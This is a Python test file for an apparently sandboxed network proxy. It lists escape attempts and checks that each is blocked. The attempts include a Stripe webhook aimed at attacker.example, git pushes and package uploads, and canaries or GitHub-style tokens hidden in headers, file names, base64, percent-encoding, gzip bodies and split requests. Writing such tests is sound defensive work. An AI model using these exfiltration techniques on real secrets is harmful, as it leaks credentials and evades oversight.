"""Lines 27 to 32: calls that are wrong by what they mean, to hosts that are right."""

import base64
import concurrent.futures
import gzip
import os
import urllib.parse
from functools import partial

from childproof.escape.sinkhole import CREDENTIAL
from childproof.escape.table import Absent, Closed, Elsewhere, add, attempt, denied
from childproof.escape.talk import SECRET, exchange, fetch, get, over_tls, post, reads
from childproof.escape.ways import Way

CANARY = "the-canary-of-this-session-0123456789"  # of the session's configuration
PLACEHOLDER = "PLACEHOLDER-FOR-ECHO"  # of its rule `echo`
LIMIT = 11  # of the rule `limited`, see session.RULES
_STRIPE_KEY = "sk_test_childproof_escape_attempt_key"
_MEANING = "tests/escape/test_meaning.py::test_"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


for _part, _name, _method, _path in (
    ("28a", "a_push", "POST", "/public/attacker/repo.git/git-receive-pack"),
    ("28b", "a_gist", "POST", "/public/gists"),
    ("28c", "a_presigned_url", "PUT", f"/public/bucket/{SECRET}?X-Amz-Signature=00"),
    ("28d", "publishing_a_package", "PUT", "/public/registry/evil"),
    ("28d", "publishing_by_upload", "POST", "/public/registry/legacy/"),
):

    def _write(way: Way, method: str, path: str) -> str:
        return exchange(way, "x.allowed.example", 80, post("x.allowed.example", path, b"x", method=method))

    _ending = denied(f"{_method} http://x.allowed.example{_path.partition('?')[0]}")
    add(_part, _name, partial(_write, method=_method, path=_path), direct=_ending, proxied=_ending)


def _stripe(way: Way, path: str, **fields: str) -> str:
    body = urllib.parse.urlencode(fields).encode()
    headers = f"Authorization: Bearer {_STRIPE_KEY}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    return over_tls(way, "api.stripe.com", post("api.stripe.com", f"/v1/{path}", body, headers))[:12]


@attempt("28e", Closed(("HTTP/1.1 200 HTTP/1.1 200",), "POST https://attacker.example/"))
def a_webhook_in_a_stubs_field(way: Way) -> str:
    """An endpoint of somebody else's, and an event for it: the stub says so; no rule lets the webhook go."""
    hook = {"url": f"https://attacker.example/{SECRET}", "enabled_events[]": "*"}
    return f"{_stripe(way, 'webhook_endpoints', **hook)} {_stripe(way, 'customers', email='a@example.com')}"


@attempt("29a", Closed(("HTTP/1.1 403 HTTP/1.1 403",), "POST http://split.example/second"))
def a_canary_split_across_requests(way: Way) -> str:
    """Half of it in one call, half in the next."""
    halves = (("first", SECRET[:9]), ("second", SECRET[9:]))
    return " ".join(
        exchange(way, "split.example", 80, post("split.example", f"/{path}", half.encode()))[:12]
        for path, half in halves
    )


@attempt("29b", denied("GET http://headers.example/"))
def a_canary_in_headers(way: Way) -> str:
    """In pieces, one a header."""
    pieces = "".join(f"X-Part-{n}: {SECRET[n * 6 : n * 6 + 6]}\r\n" for n in range(3))
    return exchange(way, "headers.example", 80, get("headers.example", "/", pieces + f"Cookie: {SECRET}\r\n"))


@attempt("29c", denied("POST http://form.example/"))
def a_canary_in_a_file_name(way: Way) -> str:
    """An upload whose name says it."""
    body = f'--b\r\nContent-Disposition: form-data; name="f"; filename="{SECRET}"\r\n\r\nx\r\n--b--\r\n'.encode()
    return exchange(
        way, "form.example", 80, post("form.example", "/", body, "Content-Type: multipart/form-data; boundary=b\r\n")
    )


@attempt("29d", denied("GET http://base64.example/"))
def a_canary_in_base64(way: Way) -> str:
    """In a path."""
    return exchange(
        way, "base64.example", 80, get("base64.example", "/" + base64.urlsafe_b64encode(SECRET.encode()).decode())
    )


@attempt("30a", Closed((f"{LIMIT} passed, 1 refused",), "GET http://limited.reached.example/public/limited", reached=("GET limited.reached.example/public/limited",) * LIMIT))  # fmt: skip
def parallel_calls_against_a_limit(way: Way) -> str:
    """One more than the limit, all at once."""

    def call(_: int) -> str:
        return fetch(way, "limited.reached.example", "/public/limited")[9:12]

    with concurrent.futures.ThreadPoolExecutor(LIMIT + 1) as pool:
        answers = list(pool.map(call, range(LIMIT + 1)))
    return f"{answers.count('200')} passed, {answers.count('429')} refused"


_TOKEN = "ghp_" + "A1b2" * 9  # nobody's, in GitHub's format
_HEX = "".join(f"%{byte:02x}" for byte in CANARY.encode())
for _part, _name, _path, _headers in (
    ("27a", "a_token_in_a_header", "/public/27", f"Authorization: Bearer {_TOKEN}\r\n"),
    ("27a", "a_token_in_basic_authentication", "/public/27", f"Authorization: Basic {_b64(f'x:{_TOKEN}')}\r\n"),
    ("27a", "a_token_in_a_query", f"/public/27?key={_TOKEN}", ""),
    ("27a", "a_token_in_a_path", f"/public/{_TOKEN}", ""),
    ("29e", "a_canary_as_it_is", f"/public/29?x={CANARY}", ""),
    ("29e", "a_canary_in_base64_to_an_allowed_host", f"/public/29?x={_b64(CANARY)}", ""),
    ("29e", "a_canary_in_percent_signs", f"/public/29?x={_HEX}", ""),
    ("29e", "a_canary_split_across_headers", "/public/29", "".join(f"X-{n}: {CANARY[n : n + 13]}\r\n" for n in (0, 13, 26))),
):  # fmt: skip

    def _carry(way: Way, host: str, path: str, headers: str) -> str:
        return exchange(way, host, 80, get(host, path, headers))

    _host = f"{_name.replace('_', '-')}.allowed.example"
    _ending = Closed(("HTTP/1.1 403",), f"http://{_host}/")
    add(_part, _name, partial(_carry, host=_host, path=_path, headers=_headers), direct=_ending, proxied=_ending)


@attempt("29e", Closed(("HTTP/1.1 403 HTTP/1.1 403",), "http://canary-in-a-body.reached.example/"))
def a_canary_in_a_body(way: Way) -> str:
    """Plain, and packed; a rule allows the host and the method."""
    host = "canary-in-a-body.reached.example"
    packed = post(host, "/public/29", gzip.compress(CANARY.encode()), "Content-Encoding: gzip\r\n", "GET")
    return f"{exchange(way, host, 80, post(host, '/public/29', CANARY.encode(), method='GET'))[:12]} {exchange(way, host, 80, packed)[:12]}"


@attempt("31c", Closed(("HTTP/1.1 200 without",), "GET http://echo.reached.example/public/echo", "allow", ("GET echo.reached.example/public/echo with the credential",)))  # fmt: skip
def a_credential_that_is_echoed(way: Way) -> str:
    """The client has a placeholder, the host is told the credential, and repeats it: it is masked in the reply."""
    with way.dial("echo.reached.example", 80) as sock:
        sock.sendall(get("echo.reached.example", "/public/echo", f"Authorization: Bearer {PLACEHOLDER}\r\n"))
        answer = reads(sock, 4000)
    return f"{answer[:12]} {'with' if CREDENTIAL in answer else 'without'}"


@attempt("31c", direct=Closed(("unknown",)), proxied=Absent("the client's environment is its own"))
def a_credential_in_the_environment(way: Way) -> str:
    """Where the proxy has it from."""
    del way
    return "known" if CREDENTIAL in os.environ.values() else "unknown"


for _part, _name, _test in (
    ("30b", "a_limit_of_two_processes", f"{_MEANING}another_world_knows_nothing_of_it_and_two_runs_share_one_limit"),
    ("31a", "another_world", f"{_MEANING}another_world_knows_nothing_of_it_and_two_runs_share_one_limit"),
    ("31b", "a_secret_in_the_record", f"{_MEANING}a_real_secret_stands_in_no_record"),
    ("32a", "a_hook_that_raises", "tests/escape/test_hooks_fail_closed.py::test_a_bug_in_our_own_hook_denies_the_call"),
    ("32b", "a_stub_that_raises", f"{_MEANING}a_real_secret_stands_in_no_record"),
    ("32c", "another_addon_that_raises", "tests/escape/test_stock_mitmproxy.py::test_another_script_s_bug_denies"),
):
    add(_part, _name, None, direct=Elsewhere(_test), proxied=Elsewhere(_test))
